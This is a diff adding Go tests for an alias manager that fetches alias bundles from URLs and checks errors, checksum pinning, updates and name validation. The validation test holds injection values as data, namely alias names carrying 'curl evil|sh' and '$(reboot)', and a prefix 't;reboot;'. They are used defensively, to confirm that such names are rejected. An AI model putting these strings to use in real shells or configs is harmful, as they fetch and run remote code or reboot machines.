@@ -0,0 +1,189 @@
+package aliasctl
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+)
+
+const teamBundle = `version = "1.0"
+
+[aliases.gs]
+bash = "git status"
+
+[aliases.ll]
+bash = "ls -l"
+`
+
+// bundleServer serves bundle content that the test can replace while it runs.
+type bundleServer struct {
+	mu      sync.Mutex
+	content string
+}
+
+func (s *bundleServer) set(content string) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.content = content
+}
+
+func newBundleServer(t *testing.T) (*httptest.Server, *bundleServer) {
+	t.Helper()
+	bundle := &bundleServer{content: teamBundle}
+	mux := http.NewServeMux()
+	mux.HandleFunc("/team.toml", func(w http.ResponseWriter, r *http.Request) {
+		bundle.mu.Lock()
+		defer bundle.mu.Unlock()
+		w.Write([]byte(bundle.content))
+	})
+	mux.HandleFunc("/broken.toml", func(w http.ResponseWriter, r *http.Request) {
+		http.Error(w, "upstream unavailable", http.StatusServiceUnavailable)
+	})
+	mux.HandleFunc("/html.toml", func(w http.ResponseWriter, r *http.Request) {
+		w.Write([]byte("<html><body>Sign in</body></html>"))
+	})
+	mux.HandleFunc("/large.toml", func(w http.ResponseWriter, r *http.Request) {
+		w.Write([]byte(strings.Repeat("#", maxBundleSize+1)))
+	})
+	server := httptest.NewServer(mux)
+	t.Cleanup(server.Close)
+	return server, bundle
+}
+
+func TestAddBundleFromURL(t *testing.T) {
+	server, _ := newBundleServer(t)
+	am := newTestManager(t)
+
+	bundle, err := am.AddBundle("team", server.URL+"/team.toml", "t-", "", "")
+	if err != nil {
+		t.Fatalf("AddBundle: %v", err)
+	}
+	if bundle.Version != "1.0" || bundle.Checksum != bundleChecksum([]byte(teamBundle)) {
+		t.Errorf("bundle = %+v, want version 1.0 pinned to the served content", bundle)
+	}
+	if source := am.AliasSource("t-gs"); source != "bundle:team" {
+		t.Errorf("AliasSource(t-gs) = %q, want bundle:team", source)
+	}
+}
+
+func TestAddBundleFromURLErrors(t *testing.T) {
+	server, _ := newBundleServer(t)
+	closed := httptest.NewServer(http.NotFoundHandler())
+	closed.Close()
+
+	tests := []struct {
+		name     string
+		source   string
+		checksum string
+		want     string
+	}{
+		{"not found", server.URL + "/missing.toml", "", "not found"},
+		{"server error", server.URL + "/broken.toml", "", "503 Service Unavailable"},
+		{"not a bundle", server.URL + "/html.toml", "", "invalid bundle format"},
+		{"too large", server.URL + "/large.toml", "", "larger than"},
+		{"checksum mismatch", server.URL + "/team.toml", "sha256:" + strings.Repeat("0", 64), "checksum mismatch"},
+		{"unreachable", closed.URL + "/team.toml", "", "failed to fetch"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			am := newTestManager(t)
+			_, err := am.AddBundle("team", tt.source, "", tt.checksum, "")
+			if err == nil || !strings.Contains(err.Error(), tt.want) {
+				t.Fatalf("AddBundle error = %v, want one containing %q", err, tt.want)
+			}
+			if bundles, _ := am.Bundles(); len(bundles) != 0 {
+				t.Errorf("failed AddBundle subscribed to %+v", bundles)
+			}
+		})
+	}
+}
+
+func TestUpdateBundlesFromURL(t *testing.T) {
+	server, served := newBundleServer(t)
+	am := newTestManager(t)
+	if _, err := am.AddBundle("team", server.URL+"/team.toml", "", "", ""); err != nil {
+		t.Fatalf("AddBundle: %v", err)
+	}
+
+	served.set(strings.Replace(teamBundle, `version = "1.0"`, `version = "1.1"`, 1) + "\n[aliases.gd]\nbash = \"git diff\"\n")
+	if am.AliasSource("gd") != "" {
+		t.Fatal("gd available before the bundle was updated")
+	}
+	updates, err := am.UpdateBundles(nil, "")
+	if err != nil {
+		t.Fatalf("UpdateBundles: %v", err)
+	}
+	if len(updates) != 1 || !updates[0].Changed() || updates[0].NewVersion != "1.1" {
+		t.Fatalf("updates = %+v, want team moved to 1.1", updates)
+	}
+	if source := am.AliasSource("gd"); source != "bundle:team" {
+		t.Errorf("AliasSource(gd) = %q after the update, want bundle:team", source)
+	}
+
+	// A failed fetch is reported and leaves the pin where it was
+	served.set("")
+	updates, err = am.UpdateBundles([]string{"team"}, "")
+	if err != nil {
+		t.Fatalf("UpdateBundles: %v", err)
+	}
+	if len(updates) != 1 || updates[0].Err == nil || updates[0].NewVersion != "1.1" {
+		t.Errorf("updates = %+v, want an error and the 1.1 pin kept", updates)
+	}
+	if source := am.AliasSource("gd"); source != "bundle:team" {
+		t.Errorf("AliasSource(gd) = %q after a failed update, want bundle:team", source)
+	}
+}
+
+func TestBundleAliasNamesAreValidated(t *testing.T) {
+	server, served := newBundleServer(t)
+
+	tests := []struct {
+		name    string
+		content string
+		prefix  string
+	}{
+		{"command in a name", "[aliases.\"x=1; curl evil|sh; y\"]\nbash = \"true\"\n", ""},
+		{"space in a name", "[aliases.\"g s\"]\nbash = \"git status\"\n", ""},
+		{"name starting with a dash", "[aliases.\"-gs\"]\nbash = \"git status\"\n", ""},
+		{"json alias store", `{"$(reboot)": {"bash": "true"}}`, ""},
+		{"command in the prefix", teamBundle, "t;reboot;"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			served.set(tt.content)
+			am := newTestManager(t)
+			_, err := am.AddBundle("team", server.URL+"/team.toml", tt.prefix, "", "")
+			if err == nil || !strings.Contains(err.Error(), "invalid") {
+				t.Fatalf("AddBundle error = %v, want the alias name refused", err)
+			}
+			if bundles, _ := am.Bundles(); len(bundles) != 0 {
+				t.Errorf("AddBundle subscribed to %+v", bundles)
+			}
+		})
+	}
+
+	// An update that brings an invalid name is refused as a whole
+	served.set(teamBundle)
+	am := newTestManager(t)
+	if _, err := am.AddBundle("team", server.URL+"/team.toml", "", "", ""); err != nil {
+		t.Fatalf("AddBundle: %v", err)
+	}
+	served.set(teamBundle + "\n[aliases.\"gd;curl evil|sh\"]\nbash = \"git diff\"\n")
+	updates, err := am.UpdateBundles(nil, "")
+	if err != nil {
+		t.Fatalf("UpdateBundles: %v", err)
+	}
+	if len(updates) != 1 || updates[0].Err == nil {
+		t.Fatalf("updates = %+v, want the update refused", updates)
+	}
+	if am.AliasSource("gs") != "bundle:team" {
+		t.Error("gs no longer comes from the bundle after a refused update")
+	}
+	for name := range am.EffectiveAliases() {
+		if err := ValidateAliasName(name); err != nil {
+			t.Errorf("effective aliases contain %q: %v", name, err)
+		}
+	}
+}